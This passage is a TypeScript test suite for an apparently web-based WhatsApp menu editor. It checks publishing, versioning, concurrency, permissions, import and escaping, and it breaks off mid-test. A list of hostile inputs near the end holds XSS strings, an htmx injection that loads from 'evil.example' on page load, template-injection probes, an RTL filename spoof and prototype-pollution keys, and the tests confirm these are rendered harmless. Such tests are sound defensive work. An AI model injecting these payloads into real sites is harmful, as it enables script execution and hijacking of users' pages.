import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import express from 'express'
import request from 'supertest'
import { buttons, waInteractive } from '../../lib/index'
import type { MenuSpec } from '../../lib/model/menu'
import { saveDraft } from '../../lib/store/menus'
import { testOptions } from '../../lib/testing'
import { ENGINE } from '../../lib/wa'
import { fieldsOf } from './form'
import { host, wordsOf } from './host'

type Host = Awaited<ReturnType<typeof host>>
const dbOf = (wa: Host['wa']) => (wa as never as Record<symbol, { db: Parameters<typeof saveDraft>[0] }>)[ENGINE]?.db as Parameters<typeof saveDraft>[0]
const NOW = 1_795_150_000_000
const MEERA = { id: 'u2', name: 'Meera' }
const draft = (wa: Host['wa'], spec: MenuSpec) => saveDraft(dbOf(wa), spec, MEERA, 'new', NOW)

/** Opens a page of the editor, changes some fields, presses a button. */
async function edit({ get, post }: Pick<Host, 'get' | 'post'>, key: string, changes: Record<string, string>, button = 'save') {
  const page = await get(`/menus/${key}`).expect(200)
  return post(`/menus/${key}`, { ...fieldsOf(page.text), ...changes, do: button })
}
const specOf = async ({ get }: Pick<Host, 'get'>, key: string, query = ''): Promise<MenuSpec> => (await get(`/menus/${key}/export${query}`).expect(200)).body
const chip = (html: string): string =>
  /<p class="menu-marks"[^>]*>([\s\S]*?)<\/p>/
    .exec(html)?.[1]
    ?.replaceAll(/<[^>]*>/g, '')
    .trim() ?? ''

const SPECS: MenuSpec[] = [
  {
    key: 'b',
    type: 'button',
    header: { type: 'image', link: 'https://cdn.example/a.jpg' },
    body: 'Order {{order}}\nhas arrived.',
    footer: 'Tap',
    variables: { order: { sample: 'ORD-1' }, spare: { default: 5 } },
    buttons: [
      { id: 'good', title: 'Good' },
      { id: 'bad', title: 'Bad' },
    ],
  },
  { key: 'd', type: 'button', header: { type: 'document', id: 'media-1', filename: 'bill.pdf' }, body: 'Bill', buttons: [{ id: 'ok', title: 'OK' }] },
  {
    key: 'l',
    type: 'list',
    header: { type: 'text', text: 'Help' },
    body: 'How?',
    button: 'Topics',
    sections: [
      {
        title: 'A',
        rows: [
          { id: 'x', title: 'X', description: 'xx' },
          { id: 'y', title: 'Y' },
        ],
      },
      { title: 'B', rows: [{ id: 'z', title: 'Z' }] },
    ],
  },
  {
    key: 'e',
    type: 'list',
    body: 'Free on {{day}}:',
    button: 'Slots',
    sections: [
      { title: 'Free', each: 'slots', row: { id: 'slot:{{id}}', title: '{{time}}' }, empty: 'None' },
      { title: 'Else', each: 'more', row: { id: 'more:{{id}}', title: '{{name}}' }, rows: [{ id: 'other', title: 'Other' }] },
    ],
  },
  { key: 'u', type: 'cta_url', body: 'Shipped', buttons: [{ title: 'Track', url: 'https://example.com/{{order}}' }] },
  { key: 'p', type: 'cta_phone', body: 'Talk', buttons: [{ title: 'Call', phone: '+911140000000' }], template: { name: 'call_us', language: 'en' } },
  { key: 't', type: 'text', body: '  Spaces stay  \n\n<b>' },
  {
    key: 'm',
    type: 'template',
    template: { name: 'reminder', language: 'en', components: [{ type: 'body', parameters: [{ type: 'text', text: '{{name}}' }] }] },
  },
  {
    key: 'n',
    type: 'template',
    template: { name: 'fancy', language: 'en', components: [{ type: 'header', parameters: [{ type: 'image', image: { link: 'https://a.example/b.jpg' } }] }] },
  },
]
for (const spec of SPECS) {
  test(`the editor of a ${spec.type} menu sends back what it was given: ${spec.key}`, async (t) => {
    const h = await host(t)
    await draft(h.wa, spec)

    await edit(h, spec.key, {}).then((answer) => assert.equal(answer.status, 303))

    assert.deepEqual(await specOf(h, spec.key), spec)
  })
}

test('the list says type, standing, first words, who listens, and who changed it last', async (t) => {
  const h = await host(t)
  await draft(h.wa, { key: 'mine', type: 'text', body: 'Just words' })

  const words = wordsOf((await h.get('/menus').expect(200)).text)

  assert.match(words, /mine Text Just words No reply options Draft, never live \S+ · Meera/)
  assert.match(words, /help-center List How can we help\? 3 listeners: reply:track_order, reply:cancel_order and 1 more Live, version 1 \S+ · code/)
})

test('search looks in names, words and reply ids, and the address keeps it', async (t) => {
  const { get } = await host(t)

  for (const [q, found, not] of [
    ['CANCEL_order', 'help-center', 'menu-more'],
    ['anything else', 'more', 'menu-help-center'],
    ['title', null, 'menu-more'],
    ['<script>', null, '<script>'],
  ] as const) {
    const { text } = await get(`/menus?q=${encodeURIComponent(q)}`).expect(200)
    if (found) assert.match(text, new RegExp(`id="menu-${found}"`))
    else assert.match(text, /No menu says/)
    assert.ok(!text.includes(`id="${not}"`) && !text.includes('<script>alert'))
    assert.match(text, new RegExp(`name="q"[^>]*value="${q.replaceAll('<', '&lt;').replaceAll('>', '&gt;')}"`))
  }
})

test('a menu is made, written, published, changed and rolled back without JavaScript', async (t) => {
  const h = await host(t)
  const { get, post } = h
  await post('/menus/_new', { name: 'Órder rating!', type: 'button' }, 'editor').expect(303).expect('location', '/wa/menus/order-rating?did=made')

  await edit(h, 'order-rating', { body: 'How was {{order}}?', 'buttons[0][title]': 'Great', 'buttons[1][title]': 'Great 2' }).then((a) =>
    assert.equal(a.status, 303),
  )
  assert.deepEqual(await specOf(h, 'order-rating'), {
    key: 'order-rating',
    type: 'button',
    body: 'How was {{order}}?',
    buttons: [
      { id: 'great', title: 'Great' },
      { id: 'great_2', title: 'Great 2' },
    ],
  })
  assert.equal(chip((await get('/menus/order-rating')).text), 'Reply buttons Draft, never live')

  await edit(h, 'order-rating', {}, 'review').then((a) => assert.equal(a.headers.location, '/wa/menus/order-rating/publish'))
  const first = await get('/menus/order-rating/publish').expect(200)
  await post('/menus/order-rating/publish', { revision: /name="revision" value="(\d+)"/.exec(first.text)?.[1] ?? '' }).expect(303)
  await edit(h, 'order-rating', { body: 'How was it?' })
  const second = await get('/menus/order-rating/publish').expect(200)
  assert.match(second.text, /<del>was \{\{order\}\}<\/del>|<del>\{\{order\}\}<\/del><ins>it<\/ins>/)
  await post('/menus/order-rating/publish', { revision: /name="revision" value="(\d+)"/.exec(second.text)?.[1] ?? '' }).expect(303)
  assert.equal(((await specOf(h, 'order-rating')) as { body: string }).body, 'How was it?')

  await post('/menus/order-rating/versions/1/live', {}, 'editor').expect(303)
  await post('/menus/order-rating/versions/1/live', {}, 'editor').expect(303) // clicked twice
  assert.equal(chip((await get('/menus/order-rating')).text), 'Reply buttons Live, version 3')
  assert.equal(((await specOf(h, 'order-rating')) as { body: string }).body, 'How was {{order}}?')
  const history = wordsOf((await get('/menus/order-rating/history', 'viewer').expect(200)).text)
  assert.match(history, /Ravi made an older version live again[\s\S]*Ravi published[\s\S]*Ravi saved a draft[\s\S]*Ravi made the menu/)
  const versions = wordsOf((await get('/menus/order-rating/versions', 'viewer').expect(200)).text)
  assert.match(versions, /Version 3 Live[\s\S]*Version 2[\s\S]*Version 1/)
})

const MOVES: [title: string, button: string, after: string[][]][] = [
  ['down', 'down:sections[0].rows[0]', [['cancel_order', 'track_order'], ['agent']]],
  ['up across the section', 'up:sections[1].rows[0]', [['track_order', 'cancel_order', 'agent'], []]],
  ['down across the section', 'down:sections[0].rows[1]', [['track_order'], ['cancel_order', 'agent']]],
  ['up at the top', 'up:sections[0].rows[0]', [['track_order', 'cancel_order'], ['agent']]],
  ['removed', 'remove:sections[0].rows[0]', [['cancel_order'], ['agent']]],
  ['a section up', 'up:sections[1]', [['agent'], ['track_order', 'cancel_order']]],
  ['a section removed', 'remove:sections[0]', [['agent']]],
  [
    'a row added',
    'add:sections[1].rows',
    [
      ['track_order', 'cancel_order'],
      ['agent', ''],
    ],
  ],
  ['a section added', 'add:sections', [['track_order', 'cancel_order'], ['agent'], ['']]],
  ['dragged', 'place:sections[0].rows[0]>sections[1].rows[1]', [['cancel_order'], ['agent', 'track_order']]],
  ['joined', 'join:sections[1]', [['track_order', 'cancel_order', 'agent']]],
]
for (const [title, button, after] of MOVES) {
  test(`rows move by buttons: ${title}`, async (t) => {
    const h = await host(t)

    const answer = await edit(h, 'help-center', {}, button)

    assert.equal(answer.status, 303)
    assert.match(answer.headers.location ?? '', /^\/wa\/menus\/help-center/)
    const spec = (await specOf(h, 'help-center')) as { sections: { rows: { id: string }[] }[] }
    assert.deepEqual(
      spec.sections.map((section) => section.rows.map((row) => row.id)),
      after,
    )
    await h.get((answer.headers.location ?? '').slice('/wa'.length)).expect(200)
  })
}

test('with htmx a button changes the form and saves nothing; saving answers the state, the ids and the phone', async (t) => {
  const h = await host(t)
  const page = await h.get('/menus/more')
  const partial = { 'HX-Request': 'true', 'HX-Request-Type': 'partial' }

  const moved = await h
    .post('/menus/more', { ...fieldsOf(page.text), 'buttons[0][title]': 'Sure', do: 'down:buttons[0]' })
    .set(partial)
    .expect(200)
  assert.match(moved.text, /^<form id="_form"[\s\S]*<\/form>\s*<hx-partial hx-target="#_preview"/)
  assert.match(moved.text, /name="buttons\[1\]\[title\]" type="text" value="Sure"/)
  assert.match(wordsOf(moved.text), /Not saved yet/)
  assert.equal(chip((await h.get('/menus/more')).text), 'Reply buttons Live, version 1')

  const added = await h
    .post('/menus/more', { ...fieldsOf(page.text), 'buttons[2][title]': 'Perhaps', 'buttons[2][id]': '', do: 'save' })
    .set(partial)
    .expect(200)
  assert.match(added.text, /hx-target="#_state"/)
  assert.match(added.text, /hx-target="#heard-f-buttons-2-id"[\s\S]*value="perhaps"/)
  assert.doesNotMatch(added.text, /<textarea/)
})

test('typing is answered with the phone and the remarks, and never with a field that is typed in', async (t) => {
  const h = await host(t)
  const fields = fieldsOf((await h.get('/menus/help-center')).text)

  const { text } = await h
    .post('/menus/help-center/preview', { ...fields, body: 'Hello *{{who}}*', 'sections[0][rows][0][title]': 'x'.repeat(25) })
    .set({ 'HX-Request': 'true', 'HX-Request-Type': 'partial' })
    .expect(200)

  assert.match(text, /<strong>‹who›<\/strong>/)
  assert.match(text, /id="about-sections-0-rows-0-title"[\s\S]*is 25 characters; WhatsApp shows at most 24/)
  assert.match(text, /\{\{who\}\}/)
  assert.doesNotMatch(text, /name="(body|sections)/)
  assert.equal(chip((await h.get('/menus/help-center')).text), 'List Live, version 1')
})

test('the preview draws what would be sent', async (t) => {
  const h = await host(t)
  const { text } = await h.get('/menus/help-center')
  const phone = /<div class="mini-screen wa-wall">([\s\S]*?)<\/section>/.exec(text)?.[1] ?? ''

  const drawn = await (h.wa as never as Record<symbol, { draw(what: object): Promise<{ type: string; sections?: { rows: { title: string }[] }[] }> }>)[
    ENGINE
  ]?.draw({ menu: 'help-center' })

  for (const title of drawn?.sections?.flatMap((section) => section.rows.map((row) => row.title)) ?? []) assert.ok(phone.includes(title))
  assert.match(phone, /How can we <strong>help<\/strong>\?/)
})

test('a draft over every limit is saved whole, says what is wrong beside each field, and cannot go live', async (t) => {
  const h = await host(t)
  const long = 'ü'.repeat(1100)
  const title = `👍${'x'.repeat(30)}`

  await edit(h, 'more', { body: long, 'buttons[0][title]': title }).then((a) => assert.equal(a.status, 303))
  const page = await h.get('/menus/more')
  const refused = await h.post('/menus/more', { ...fieldsOf(page.text), do: 'review' }).expect(422)
  const publish = await h.get('/menus/more/publish').expect(200)
  const forced = await h.post('/menus/more/publish', { revision: fieldsOf(page.text).revision ?? '', force: 'yes' })

  assert.equal(((await specOf(h, 'more')) as { body: string }).body, long)
  assert.match(page.text, /data-count="f-body" data-limit="1024">1100\/1024/)
  assert.match(page.text, /data-count="f-buttons-0-title" data-limit="20">31\/20/)
  assert.match(page.text, /id="about-body">[\s\S]{0,400}Body is 1100 characters; WhatsApp shows at most 1024/)
  assert.match(page.text, /<textarea id="f-body"[^>]*aria-invalid="true"/)
  assert.doesNotMatch(page.text, /maxlength/)
  assert.match(refused.text, /<details class="blockers" open>/)
  assert.match(publish.text, /It cannot go live yet/)
  assert.doesNotMatch(publish.text, /Publish as version/)
  assert.equal(forced.status, 422)
})

test('fixes that the model names are buttons that change the draft', async (t) => {
  const h = await host(t)
  await draft(h.wa, { key: 'four', type: 'button', body: 'Which?', buttons: ['a', 'b', 'c', 'd'].map((id) => ({ id, title: id.toUpperCase() })) })
  const page = await h.get('/menus/four')
  assert.match(page.text, /value="fix:list-for-many:buttons">Make it a list</)

  await edit(h, 'four', {}, 'fix:list-for-many:buttons')
  const list = await h.get('/menus/four')
  assert.match(list.text, /value="fix:way-out:sections">Add &#34;Talk to a person&#34;</)
  await edit(h, 'four', {}, 'fix:way-out:sections')

  const spec = (await specOf(h, 'four')) as { type: string; sections: { rows: { id: string }[] }[] }
  assert.equal(spec.type, 'list')
  assert.deepEqual(
    spec.sections[0]?.rows.map((row) => row.id),
    ['a', 'b', 'c', 'd', 'agent'],
  )
})

test('of two who write at once the second is told, nothing is overwritten, and the words stay in the form', async (t) => {
  const h = await host(t)
  const page = await h.get('/menus/more')
  const mine = { ...fieldsOf(page.text), body: 'Mine & <mine>', do: 'save' }
  await edit(h, 'more', { body: 'Theirs' })

  const refused = await h.post('/menus/more', mine).expect(412)
  assert.match(wordsOf(refused.text), /Ravi changed this menu .*while you were writing/)
  assert.equal(fieldsOf(refused.text).body, 'Mine & <mine>')
  assert.equal(((await specOf(h, 'more')) as { body: string }).body, 'Theirs')

  const inPlace = await h.post('/menus/more', mine).set({ 'HX-Request': 'true', 'HX-Request-Type': 'partial' }).expect(412)
  assert.match(inPlace.text, /hx-target="#_state"[\s\S]*while you were writing/)

  await h.post('/menus/more', { ...fieldsOf(refused.text), do: 'over' }).expect(303)
  assert.equal(((await specOf(h, 'more')) as { body: string }).body, 'Mine & <mine>')
})

test('publishing words that somebody changed after the page was opened is refused, and shows them', async (t) => {
  const h = await host(t)
  await edit(h, 'more', { body: 'First' })
  const { text } = await h.get('/menus/more/publish')
  const revision = /name="revision" value="(\d+)"/.exec(text)?.[1] ?? ''
  await edit(h, 'more', { body: 'Second' })

  const refused = await h.post('/menus/more/publish', { revision }).expect(412)

  assert.match(refused.text, /Ravi changed this menu after you opened the page/)
  assert.match(refused.text, /Second/)
  assert.equal(chip((await h.get('/menus/more')).text), 'Reply buttons Changed since version 1')
})

test('an option that code listens to cannot go without being told who would miss it', async (t) => {
  const h = await host(t)
  await edit(h, 'help-center', {}, 'remove:sections[0].rows[0]')

  const editor = wordsOf((await h.get('/menus/help-center')).text)
  const page = await h.get('/menus/help-center/publish')
  const revision = /name="revision" value="(\d+)"/.exec(page.text)?.[1] ?? ''
  const refused = await h.post('/menus/help-center/publish', { revision }).expect(409)
  await h.post('/menus/help-center/publish', { revision, force: 'yes' }).expect(303)

  assert.match(editor, /The code would miss track_order ?\. reply:track_order listens for it/)
  assert.match(wordsOf(page.text), /reply:track_order listens to the option track_order ?, which would go/)
  assert.match(refused.text, /Tick the box/)
  assert.equal(chip((await h.get('/menus/help-center')).text), 'List Live, version 2')
})

test('rolling back to a version without such an option is refused in the same way, and leaves the draft', async (t) => {
  const h = await host(t)
  await edit(h, 'help-center', {}, 'remove:sections[0].rows[0]')
  const page = await h.get('/menus/help-center/publish')
  await h.post('/menus/help-center/publish', { revision: /name="revision" value="(\d+)"/.exec(page.text)?.[1] ?? '', force: 'yes' }).expect(303)
  await h.post('/menus/help-center/versions/1/live').expect(303)
  await edit(h, 'help-center', { body: 'Being written' })

  const refused = await h.post('/menus/help-center/versions/2/live').expect(409)
  await h.post('/menus/help-center/versions/2/live', { force: 'yes' }).expect(303)

  assert.match(refused.text, /name="force"/)
  assert.equal(((await specOf(h, 'help-center')) as { body: string }).body, 'Being written')
  assert.equal(chip((await h.get('/menus/help-center')).text), 'List Changed since version 4')
  await h.get('/menus/help-center/versions/99').expect(404)
})

test('a menu is duplicated, archived with a page that says what it means, and restored', async (t) => {
  const h = await host(t)
  const { get, post } = h
  assert.match((await get('/menus/_new?from=more')).text, /value="more-copy"/)
  await post('/menus/_new?from=more', { name: 'more-copy' }).expect(303)
  await post('/menus/_new?from=more', { name: 'More copy' }).expect(422)
  assert.deepEqual(await specOf(h, 'more-copy'), { ...(await specOf(h, 'more')), key: 'more-copy' })

  assert.match(wordsOf((await get('/menus/more-copy/archive')).text), /Nobody can send “more-copy” any more/)
  await post('/menus/more-copy/archive').expect(303)
  assert.doesNotMatch((await get('/menus')).text, /menu-more-copy/)
  assert.match((await get('/menus?shown=archived')).text, /menu-more-copy/)
  assert.match((await get('/menus/more-copy')).text, /This menu is archived/)
  await post('/menus/more-copy', { whole: 'yes', do: 'save' }).expect(409)
  await post('/menus/more-copy/restore').expect(303)
  assert.match((await get('/menus')).text, /menu-more-copy/)
})

test('a draft is thrown away only as it was seen', async (t) => {
  const h = await host(t)
  await edit(h, 'more', { body: 'Draft' })
  const { text } = await h.get('/menus/more')
  const { revision = '' } = fieldsOf(text)
  await edit(h, 'more', { body: 'Newer draft' })

  await h.post('/menus/more/discard', { revision }).expect(412)
  await h.post('/menus/more/discard', { revision: fieldsOf((await h.get('/menus/more')).text).revision ?? '' }).expect(303)

  assert.equal(((await specOf(h, 'more')) as { body: string }).body, 'Need anything else?')
})

test('a test is sent to a phone as it is shown, once however often it is clicked, and refusals say why', async (t) => {
  const h = await host(t)
  const page = await h.get('/menus/help-center')
  const form = { ...fieldsOf(page.text), body: 'Hello *{{who}}*', to: '+919800000001', do: 'send' }
  const answers = await Promise.all([1, 2, 3].map(() => h.post('/menus/help-center', form).set({ 'HX-Request': 'true', 'HX-Request-Type': 'partial' })))
  await h.wa.idle()

  assert.ok(answers.every((answer) => answer.status === 200 && /On its way/.test(answer.text)))
  const thread = (await h.get('/conversations/1')).text
  assert.equal(thread.match(/Hello <strong>‹who›<\/strong>/g)?.length, 1)
  assert.match(thread, /sent by Ravi/)

  for (const [fields, words] of [
    [{ to: '' }, /Write the number of the phone/],
    [{ to: '98000 00001' }, /not an international phone number\. Write it with \+ and the country code, such as \+919800000001\./],
    [{ body: '' }, /would not take it yet: Body is empty/],
  ] as const) {
    const refused = await h.post('/menus/help-center', { ...form, ...fields }).expect(422)
    assert.match(refused.text, words)
    assert.match(refused.text, /id="trial-to"[^>]*aria-invalid="true"/)
  }
  const sent = await h.post('/menus/help-center', { ...form, token: 'another' }).expect(303)
  assert.match((await h.get((sent.headers.location ?? '').slice(3).replace(/#.*/, ''))).text, /On its way/)
})

test('a test takes a national number where the host says the country, and tells staff of a closed window by their own clock', async (t) => {
  const h = await host(t, { defaultCountry: '91' })
  const asha = h.phone({ phone: '+919800000001' })
  const form = { ...fieldsOf((await h.get('/menus/help-center')).text), to: '98000 00001', do: 'send' }

  await h.post('/menus/help-center', form).expect(303)
  await asha.says('hi')
  await h.control.clock.advance(25 * 60 * 60 * 1000)
  const closed = await h.post('/menus/help-center', { ...form, token: 'later' }).expect(422)

  assert.match(closed.text, /The 24-hour window closed (today|yesterday) at \d\d:\d\d\. WhatsApp takes approved templates only/)
  assert.doesNotMatch(closed.text, /closed at \d{4}-/)
})

const source = (name: string): unknown => JSON.parse(readFileSync(join(__dirname, '..', 'fixtures', 'source-page', name), 'utf8'))
for (const name of ['buttons.json', 'list.json', 'cta-url.json']) {
  test(`a request of the source page becomes a draft, with and without the curl command around it: ${name}`, async (t) => {
    const h = await host(t)
    const json = JSON.stringify(source(name), null, 2)
    const curl = `curl -X POST "https://<api_key>:<api_token>@api.in.exotel.com/v2/accounts/<account_sid>/messages" \\\n-H "Content-Type: application/json" \\\n-d '${json.replaceAll("'", String.raw`'\''`)}'`

    await h.post('/menus/_import', { text: json, name: 'plain' }).expect(303).expect('location', '/wa/menus/plain?did=imported')
    await h.post('/menus/_import', { text: curl, name: 'Curl' }).expect(303).expect('location', '/wa/menus/curl?did=imported')

    assert.deepEqual(await specOf(h, 'curl'), { ...(await specOf(h, 'plain')), key: 'curl' })
    const page = await h.get('/menus/curl?did=imported').expect(200)
    assert.match(page.text, /Imported as a draft/)
    assert.doesNotMatch(page.text, /api_token/)
  })
}

test('our own export comes in again, alone and with all others; taken names and rubbish are refused with the paste kept', async (t) => {
  const h = await host(t)
  const one = (await h.get('/menus/help-center/export').expect(200).expect('content-disposition', 'attachment; filename="help-center.json"')).text
  const all = (await h.get('/menus/_export').expect(200)).text

  await h.post('/menus/_import', { text: one, name: '' }).expect(422)
  await h.post('/menus/_import', { text: one, name: 'copy' }).expect(303)
  await h.post('/menus/_import', { text: all, name: '' }).expect(422)
  const others = JSON.stringify(JSON.parse(all).map((menu: MenuSpec) => ({ ...menu, key: `${menu.key}-2`, owner: 'code' })))
  await h.post('/menus/_import', { text: others, name: '' }).expect(303).expect('location', '/wa/menus?shown=changed&did=imported')
  assert.equal(((await specOf(h, 'more-2')) as { owner?: string }).owner, undefined)

  const many = Array.from({ length: 1001 }, (_, n) => ({ key: `answer-${n}`, type: 'text', body: `Answer ${n}` }))
  assert.match((await h.post('/menus/_import', { text: JSON.stringify(many), name: '' }).expect(422)).text, /1001 menus; at most 1000/)
  await h.post('/menus/_import', { text: JSON.stringify(many.slice(1)), name: '' }).expect(303)
  assert.deepEqual(await specOf(h, 'answer-1000'), many[1000])

  for (const text of [
    '',
    'hello',
    '{',
    '[]',
    '{}',
    '[1]',
    'null',
    '{"key":"x","type":"button"}',
    '{"key":"X Y","type":"text","body":"a"}',
    `{"type":"interactive","interactive":{"type":"poll"}}`,
    '<script>alert(1)</script>',
  ]) {
    const refused = await h.post('/menus/_import', { text, name: text.startsWith('{"key"') ? '' : 'rubbish' }).expect(422)
    assert.match(refused.text, /role="alert"/)
    assert.doesNotMatch(refused.text, /<script>alert/)
  }
})

test('a menu that code owns is read, never written, and says why', async (t) => {
  const { control: _control, ...options } = testOptions()
  const owned = buttons('owned', { owner: 'code', body: 'Hi', buttons: [{ id: 'yes', title: 'Yes' }] })
  const wa = waInteractive({ ...options, menus: [owned], authorize: () => ({ id: 'u1', name: 'Ravi', role: 'admin' as const }) })
  const app = express().use(wa)
  await wa.start()
  t.after(() => wa.close())
  const post = (path: string) =>
    request(app).post(`/wa${path}`).set('sec-fetch-site', 'same-origin').type('form').send({ whole: 'yes', do: 'save', body: 'x', revision: '1' })

  const { text } = await request(app).get('/wa/menus/owned').expect(200)

  assert.match(text, /This menu belongs to the code/)
  assert.doesNotMatch(text, /<form(?![^>]*\/tags")|<textarea|archive/)
  for (const path of [
    '/menus/owned',
    '/menus/owned/preview',
    '/menus/owned/publish',
    '/menus/owned/archive',
    '/menus/owned/discard',
    '/menus/owned/versions/1/live',
    '/menus/owned/restore',
  ])
    await post(path).expect(409)
  await request(app).get('/wa/menus/owned/publish').expect(409)
})

test('viewers and agents read everything and change nothing; the pages show them no control', async (t) => {
  const h = await host(t)
  await edit(h, 'more', { body: 'Draft' })
  for (const who of ['viewer', 'agent']) {
    for (const path of ['/menus', '/menus/more', '/menus/more/versions', '/menus/more/versions/1', '/menus/more/history']) {
      const { text } = await h.get(path, who).expect(200)
      const main = /<main[\s\S]*<\/main>/.exec(text)?.[0].replace(/<form class="finder"[\s\S]*?<\/form>/, '') ?? ''
      assert.doesNotMatch(main, /method="post"|<button|_new|archive"|\/export/, `${who} ${path}`)
    }
    for (const path of ['/menus/_new', '/menus/_import', '/menus/_export', '/menus/more/publish', '/menus/more/archive', '/menus/more/export'])
      await h.get(path, who).expect(403)
    for (const path of [
      '/menus/_new',
      '/menus/_import',
      '/menus/more',
      '/menus/more/preview',
      '/menus/more/publish',
      '/menus/more/archive',
      '/menus/more/restore',
      '/menus/more/discard',
      '/menus/more/versions/1/live',
    ])
      await h.post(path, { whole: 'yes' }, who).expect(403)
  }
})

const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '</textarea><script>alert(1)</script>',
  '" hx-get="https://evil.example" hx-trigger="load" x="',
  "'><svg onload=alert(1)>",
  '{{7*7}}<%= 7*7 %>',
  '\u202Egpj.exe',
  'a\u0000b\ud800c',
  '__proto__',
  'constructor',
]
for (const words of HOSTILE) {
  test(`what is typed into any field stays text: ${JSON.stringify(words)}`, async (t) => {
    const h = await host(t)
    for (const key of ['help-center', 'more']) {
      const fields = fieldsOf((await h.get(`/menus/${key}`)).text)
      const kept = new Set(['type', 'revision', 'whole', 'token', 'header[type]'])
      const hostile = Object.fromEntries(Object.entries(fields).map(([name, value]) => [name, kept.has(name) ? value : words]))
      await h.post(`/menus/${key}`, { ...hostile, 'variables[0][name]': words, 'variables[0][sample]': words, 'template[name]': words, do: 'save' }).expect(303)
    }
    for (const path of [
      '/menus',
      '/menus?q=a',
      '/menus/help-center',
      '/menus/more',
      '/menus/more/publish',
      '/menus/more/history',
      '/menus/help-center/publish',
      '/menus/help-center/archive',
      '/menus/_new?from=more',
    ]) {
      const { text } = await h.get(path).expect(200)
      assert.doesNotMatch(text, /<img|<script>|<svg onload|\shx-get="https|onerror=alert\(1\)>|href="javascript/i, path)
    }
    assert.doesNotMatch((await h.get('/menus/more', 'viewer')).text, /<img|<script>|<svg onload/)
  })
}

test('words may use what the code gives; a variable that it does not know needs a default to go live', async (t) => {
  const h = await host(t)
  await edit(h, 'more', { body: 'Anything else, {{name}}?' })

  const page = await h.get('/menus/more')
  const refused = await h.post('/menus/more', { ...fieldsOf(page.text), do: 'review' }).expect(422)
  assert.match(refused.text, /The code gives no value for \{\{name\}\}, and it has no default\./)
  assert.match((await h.get('/menus/more/publish')).text, /It cannot go live yet[\s\S]*The code gives no value for/)
  await h.post('/menus/more/publish', { revision: fieldsOf(page.text).revision ?? '', force: 'yes' }).expect(422)

  await h.post('/menus/more', { ...fieldsOf(page.text), 'variables[0][default]': 'friend', do: 'review' }).expect(303)
})

test('rows from data are offered where the code can pass them, and begin as an example that can be published', async (t) => {
  const h = await host(t)
  assert.doesNotMatch((await h.get('/menus/help-center')).text, /value="data:sections/)
  await draft(h.wa, {
    key: 'slots',
    type: 'list',
    body: 'When?',
    button: 'See slots',
    sections: [{ title: 'Free', rows: [{ id: 'other', title: 'Another day' }] }],
  })
  assert.match((await h.get('/menus/slots')).text, /value="data:sections\[0\]"/)

  await edit(h, 'slots', {}, 'data:sections[0]')

  const page = await h.get('/menus/slots')
  assert.match(page.text, /name="sections\[0\]\[each\]"[^>]*value="items"/)
  await h.post('/menus/slots', { ...fieldsOf(page.text), do: 'review' }).expect(303)
  await edit(h, 'slots', {}, 'nodata:sections[0]')
  assert.deepEqual(((await specOf(h, 'slots')) as { sections: object[] }).sections, [{ title: 'Free', rows: [{ id: 'other', title: 'Another day' }] }])
})

test("a host's own parser of forms may stand before us, extended or not", async (t) => {
  for (const extended of [true, false]) {
    const h = await host(t)
    const app = express().use(express.urlencoded({ extended })).use(h.wa)
    const page = await h.get('/menus/help-center')
    await request(app)
      .post('/wa/menus/help-center')
      .set({ 'x-role': 'admin', 'sec-fetch-site': 'same-origin' })
      .type('form')
      .send({ ...fieldsOf(page.text), body: 'Parsed', do: 'down:sections[0].rows[0]' })
      .expect(303)
    const spec = (await specOf(h, 'help-center')) as { body: string; sections: { rows: { id: string }[] }[] }
    assert.deepEqual([spec.body, spec.sections[0]?.rows.map((row) => row.id)], ['Parsed', ['cancel_order', 'track_order']])
  }
})

test('a menu that has just been made says calmly what is to be written, and draws what is missing by its name', async (t) => {
  const h = await host(t)
  for (const [type, words] of [
    ['button', /‹title›/],
    ['list', /‹button›[\s\S]*‹row›/],
    ['cta_url', /‹title›/],
    ['cta_phone', /Template ‹name› \(‹language›\)[\s\S]*‹title›/],
    ['template', /Template ‹name› \(‹language›\)/],
    ['text', /<label for="f-body">Text<\/label>[\s\S]*Text is empty\. Write it\./],
  ] as const) {
    await h.post('/menus/_new', { name: `new-${type}`, type }).expect(303)
    const { text } = await h.get(`/menus/new-${type.replace('_', '-')}`).expect(200)
    assert.match(text, words)
    if (type !== 'cta_phone') assert.doesNotMatch(text, /is-fault/)
    assert.match(text, /things? to do before it can go live/)
  }
})

test('rubbish is refused without harm', async (t) => {
  const h = await host(t)
  const fields = fieldsOf((await h.get('/menus/help-center')).text)
  const before = await specOf(h, 'help-center')

  const wrongs: Record<string, string>[] = [
    { do: 'explode:all' },
    { do: 'up:sections[99]' },
    { do: 'remove:' },
    { do: 'place:x>y' },
    { do: 'fix:way-out:nowhere' },
    { do: 'add:__proto__' },
    { do: ':' },
    { whole: '' },
  ]
  for (const wrong of wrongs) {
    await h.post('/menus/help-center', { ...fields, ...wrong }).expect(422)
  }
  await h.post('/menus/help-center', { whole: 'yes', revision: 'x', do: 'save' }).expect(412)
  for (const path of [
    '/menus/nope',
    '/menus/No_Key',
    '/menus/nope/publish',
    '/menus/nope/versions',
    '/menus/more/versions/x',
    '/menus/more/versions/7',
    '/menus/more/export?version=9',
    '/menus/_new?from=nope',
  ])
    await h.get(path).expect(404)
  await h.post('/menus/_new', { name: '???', type: 'button' }).expect(422)
  await h.post('/menus/_new', { name: 'x'.repeat(200), type: 'button' }).expect(422)
  const odd = await h.get('/menus/help-center?at=%22%3E%3Cscript%3E&did=__proto__&tested=abc').expect(200)
  assert.doesNotMatch(odd.text, /\[object|<script>/)

  assert.deepEqual(await specOf(h, 'help-center'), before)
})

test('a form that was cut on its way changes nothing, and a menu of a hundred rows still fits', async (t) => {
  const h = await host(t)
  await draft(h.wa, {
    key: 'huge',
    type: 'list',
    body: 'x',
    button: 'y',
    sections: Array.from({ length: 10 }, (_, s) => ({
      title: `S${s}`,
      rows: Array.from({ length: 10 }, (_, r) => ({ id: `r${s}${r}`, title: `R${s}${r}`, description: 'd' })),
    })),
  })

  await edit(h, 'huge', { body: 'z' }).then((answer) => assert.equal(answer.status, 303))

  const spec = (await specOf(h, 'huge')) as { body: string; sections: { rows: unknown[] }[] }
  assert.deepEqual([spec.body, spec.sections.flatMap((section) => section.rows).length], ['z', 100])
})

test('an import is judged before its name is asked for', async (t) => {
  const h = await host(t)

  for (const name of ['', 'Fine', '???']) {
    const { text } = await h.post('/menus/_import', { text: 'no menu at all', name }).expect(422)
    assert.match(text, /<p class="fault" id="import-fault" role="alert">This cannot be read/, name)
